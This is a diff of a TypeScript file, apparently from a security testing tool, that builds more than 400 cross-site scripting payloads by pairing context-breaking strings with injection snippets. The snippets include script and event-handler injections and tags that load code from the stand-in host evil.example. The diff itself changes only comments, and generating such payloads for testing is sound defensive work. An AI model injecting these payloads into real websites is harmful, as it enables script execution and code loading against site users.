@@ -1,7 +1,7 @@
 import { xssPayloads } from '../browser/tools/xssPayloads.ts';
 import { shared } from '../shared.ts';
 
-/** Ends of the contexts that a text can be in. */
+/** Texts that end the context around them, such as an attribute or a comment. */
 const ways = [
   '',
   '"',
@@ -24,7 +24,7 @@ const ways = [
 const call = 'alert(1)';
 const host = 'https://evil.example';
 
-/** Code that runs or requests something, by class. */
+/** Code that runs or requests something, by kind. */
 const acts: Readonly<Record<string, string>> = {
   script: `<script>${call}</script>`,
   'script of a host': `<script src=${host}/a.js></script>`,
@@ -39,7 +39,7 @@ const acts: Readonly<Record<string, string>> = {
   frame: `<iframe src="javascript:parent.${call}"></iframe>`,
   'frame with a document': `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
   object: `<object data="javascript:${call}"></object><embed src="${host}/x.swf">`,
-  'focus by itself': `<input autofocus onfocus=${call}><details open ontoggle=${call}>`,
+  'automatic focus': `<input autofocus onfocus=${call}><details open ontoggle=${call}>`,
   video: `<video><source onerror=${call}></video><audio src=x onerror=${call}>`,
   'meta refresh': `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
   base: `<base href="${host}/"><link rel=stylesheet href="${host}/a.css">`,
@@ -54,7 +54,7 @@ const acts: Readonly<Record<string, string>> = {
   'css end': `}</style><img src=x onerror=${call}>`,
 };
 
-/** More than 400 texts: each end of a context before each piece of code. */
+/** More than 400 texts: each text that ends a context, followed by each piece of code. */
 const own: readonly string[] = Object.values(acts).flatMap((act) => ways.map((way) => way + act));
 
 /** Payloads: our own, and the published lists if available. */
